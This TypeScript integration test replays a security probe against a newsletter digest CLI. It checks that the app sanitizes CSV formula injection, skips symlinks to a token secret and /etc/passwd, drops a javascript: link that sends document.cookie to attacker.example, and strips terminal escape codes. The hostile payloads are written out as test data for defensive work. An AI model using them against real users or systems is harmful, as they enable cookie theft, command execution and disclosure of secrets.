import { readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureTables } from '../../../functions/adapters/dynamo/tables.ts';
import { createApp } from '../../../functions/http/app.ts';
import { type LocalEngines, startLocalEngines } from '../../../functions/local/engines.ts';
import { localPaths } from '../../../functions/wiring/local-paths.ts';
import { createRuntime, type Runtime } from '../../../functions/wiring/runtime.ts';
import { tableNames } from '../../../functions/wiring/settings.ts';
import { cli } from '../../helpers/cli.ts';
import { emulatorStore, type StoredEmail, tempWorkspace } from '../../helpers/workspace.ts';

/**
 * The probe that found issue 12, replayed through the `digest` command on a fresh data folder,
 * reading the mail back from the SES emulator: case spellings, an erased address added again,
 * formulas in an import, and a seeds folder holding symlinks to the token secret and /etc/passwd,
 * an article that carries the personalization markers, one with a javascript: link, a 3 MB one
 * and one whose title drives the terminal.
 */
let engines: LocalEngines;
let ws: Awaited<ReturnType<typeof tempWorkspace>>;
let rt: Runtime;
const saved: Record<string, string | undefined> = {};
const MARKER = '@@DIGEST_SLOT_unsubscribeUrl@@';

beforeAll(async () => {
  engines = await startLocalEngines();
  ws = await tempWorkspace();
  // A fresh data folder with its own token secret, generated there on first use.
  const env: Record<string, string | undefined> = { ...ws.env, DIGEST_TOKEN_SECRETS: undefined };
  for (const [key, value] of Object.entries(env)) {
    saved[key] = process.env[key];
    if (value === undefined) delete process.env[key];
    else process.env[key] = value;
  }
  rt = createRuntime({ ...process.env });
  await ensureTables(rt.clients.dynamodb, tableNames(rt.config));
}, 60_000);
afterAll(async () => {
  for (const [key, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[key];
    else process.env[key] = value;
  }
  await engines?.stop();
  await ws?.cleanup();
});

async function subscribers() {
  const out = await rt.clients.ddb.send(new ScanCommand({ TableName: rt.config.SUBSCRIBERS_TABLE }));
  return (out.Items ?? []).sort((a, b) => (String(a.email) < String(b.email) ? -1 : 1));
}

describe('the hostile replay, through the CLI', () => {
  it('three capitalizations of one address are one subscriber', async () => {
    expect((await cli('subscribers', 'add', 'reader@example.com')).code).toBe(0);
    for (const spelling of ['Reader@Example.com', 'READER@EXAMPLE.COM']) {
      const r = await cli('subscribers', 'add', spelling);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/already on the list \(status: confirmed\)/);
    }
    const list = await cli('subscribers', 'list');
    expect(list.stdout.trim().split('\n')).toEqual(['reader@example.com']);
  });

  it('remove, then add, of the same address exits non-zero and changes nothing', async () => {
    expect((await cli('subscribers', 'add', 'gone@example.com')).code).toBe(0);
    expect((await cli('subscribers', 'remove', 'gone@example.com')).code).toBe(0);
    const before = await subscribers();
    const again = await cli('subscribers', 'add', 'gone@example.com');
    expect(again.code).not.toBe(0);
    expect(again.stderr).toMatch(/was erased/);
    expect(await subscribers()).toEqual(before);
  });

  it('an import with =HYPERLINK(…) and +cmd names exports with no cell starting with = + - @', async () => {
    const file = join(ws.root, 'names.csv');
    await writeFile(
      file,
      [
        'email,name',
        'hyper@example.com,"=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")"',
        "cmd@example.com,+cmd|' /C calc'!A0",
        '',
      ].join('\n'),
    );
    expect((await cli('subscribers', 'import', file, '--confirmed')).code).toBe(0);
    const out = join(ws.root, 'export.csv');
    expect((await cli('subscribers', 'export', '--out', out)).code).toBe(0);
    const cells = (parse(await readFile(out, 'utf8')) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  describe('a send from a hostile seeds folder', () => {
    let secret: string;
    let mail: StoredEmail[];
    let emls: string[];
    let sent: Awaited<ReturnType<typeof cli>>;

    beforeAll(async () => {
      secret = (await readFile(localPaths(ws.config.DIGEST_DATA_DIR).secret, 'utf8')).trim();
      expect(secret).toMatch(/^local:.{32,}/);
      await symlink(localPaths(ws.config.DIGEST_DATA_DIR).secret, join(ws.seeds, 'secret.txt'));
      await symlink('/etc/passwd', join(ws.seeds, 'passwd.txt'));
      await writeFile(
        join(ws.seeds, 'markers.md'),
        [
          '---',
          'title: Harbour council publishes its budget',
          `url: https://attacker.example/collect?u=${MARKER}`,
          '---',
          `The harbour council published its budget on Monday, and the mayor called it ${MARKER} a fair plan.`,
          'Residents can read every line of it at {{unsubscribeUrl}} the library, officials said on Tuesday.',
          'The council will vote on the plan next week after a public hearing.',
        ].join('\n'),
      );
      await writeFile(
        join(ws.seeds, 'javascript.md'),
        [
          '---',
          'title: Ferry timetable changes in spring',
          'url: "javascript:fetch(`https://attacker.example/?c=`+document.cookie)"',
          '---',
          'The ferry company said on Wednesday that the spring timetable adds two crossings a day.',
          'The first boat will leave at six in the morning from the north pier, the company said.',
        ].join('\n'),
      );
      await writeFile(
        join(ws.seeds, 'terminal.md'),
        '---\ntitle: "Library hours \\e]0;pwned\\a extended \\e[31mtonight\\e[0m"\n---\nThe city library will stay open until ten at night from next month, the council said on Thursday.\n',
      );
      await writeFile(
        join(ws.seeds, 'huge.txt'),
        'The market reopened on Friday after repairs. '.repeat(70_000),
      );
      await fetch(`${engines.sesEndpoint}/clear-store`, { method: 'POST' });
      sent = await cli('send');
      mail = await emulatorStore(engines.sesEndpoint);
      const issue = (await rt.stores.issues.list())[0];
      const dir = join(ws.config.DIGEST_OUT_DIR, issue?.issueId ?? '', 'messages');
      emls = await Promise.all((await readdir(dir)).map((f) => readFile(join(dir, f), 'utf8')));
    }, 60_000);

    it('sends, skipping each unsafe file with its reason and dropping the javascript: link with a warning', () => {
      expect(sent.code).toBe(0);
      expect(sent.stderr).toMatch(/skipped article passwd\.txt: is a symbolic link/);
      expect(sent.stderr).toMatch(/skipped article secret\.txt: is a symbolic link/);
      expect(sent.stderr).toMatch(
        /skipped article huge\.txt: too large: the article is 3 MiB, over the 1 MiB limit/,
      );
      expect(sent.stderr).toMatch(
        /warning: javascript\.md: url ".*" dropped: only http and https links are kept/,
      );
      expect(sent.stderr).not.toMatch(/unexpected error|\n\s+at /);
    });

    it('one message per mailbox: the reader once, at the spelling on the list', () => {
      expect(mail.map((m) => m.destination.to[0]).sort()).toEqual([
        'cmd@example.com',
        'hyper@example.com',
        'reader@example.com',
      ]);
      expect(emls).toHaveLength(3);
    });

    it('no message carries the token secret, /etc/passwd or a javascript: link', () => {
      const everything = [...mail.map((m) => `${m.body.html}\n${m.body.text}\n${m.subject}`), ...emls];
      for (const message of everything) {
        expect(message).not.toContain(secret);
        expect(message).not.toContain(secret.split(':')[1]);
        expect(message).not.toContain('root:x:0:0');
        expect(message).not.toMatch(/href=(3D)?"\s*javascript:/i);
        expect(message).not.toMatch(/javascript:/i);
      }
      expect(everything.join('\n')).toContain('Ferry timetable changes in spring'); // it went out, without its link
    });

    it('nothing the terminal would obey was printed', () => {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
      expect(sent.stdout + sent.stderr).not.toMatch(/[\u0007\u001b\u009b]/);
      expect(sent.stdout).toContain('Library hours ]0;pwned extended [31mtonight[0m');
    });

    it('the issue record, the archive and the feeds carry none of it either', async () => {
      const [issue] = await rt.stores.issues.list();
      expect(issue?.state).toBe('sent');
      expect([...(issue?.articleFiles ?? [])].sort()).toEqual([
        '000_c2d1d5eb466be413.txt',
        'javascript.md',
        'markers.md',
        'terminal.md',
      ]);
      const app = createApp({ ...rt.appDeps(), log: undefined });
      const pages = await Promise.all(
        ['/issues', `/issues/${issue?.issueId}`, '/issues/feed.xml', '/issues/feed.json'].map(
          async (path) => {
            const res = await app.request(path);
            expect(res.status).toBe(200);
            return res.text();
          },
        ),
      );
      for (const page of [...pages, JSON.stringify(issue)]) {
        expect(page).not.toContain(secret.split(':')[1]);
        expect(page).not.toContain('root:x:0:0');
        expect(page).not.toMatch(/javascript:/i);
      }
    });

    it('a second send sends nothing: one message per send', async () => {
      const again = await cli('send');
      expect(again.code).toBe(0);
      expect(again.stdout).toMatch(/Nothing to send/);
      expect(await emulatorStore(engines.sesEndpoint)).toHaveLength(3);
    });

    // Slot markers are drawn at random per issue (core/render/personalize.ts), so the old marker
    // text in the article stays text; tests/integration/send/slot-forgery.test.ts goes further.
    it('no attacker link carries a reader\u2019s token, and the markers stay plain text', () => {
      for (const m of mail) {
        const html = m.body.html ?? '';
        const links = [...html.matchAll(/href="([^"]*)"/g)].map((x) => x[1] ?? '');
        expect(
          links.filter((href) => /token=/.test(href) && !href.startsWith('http://localhost:3000/')),
        ).toEqual([]);
        expect(`${html}\n${m.body.text}`).not.toMatch(/attacker\.example[^"\s]*token/);
      }
    });
  });

  it('a 3 MB article gives a clear refusal at once, never a hang or a stack trace', async () => {
    const r = await cli('summarize', join(ws.seeds, 'huge.txt'));
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(
      /^digest: .*huge\.txt: too large: the article is 3 MiB, over the 1 MiB limit\n$/,
    );
  }, 10_000);
});
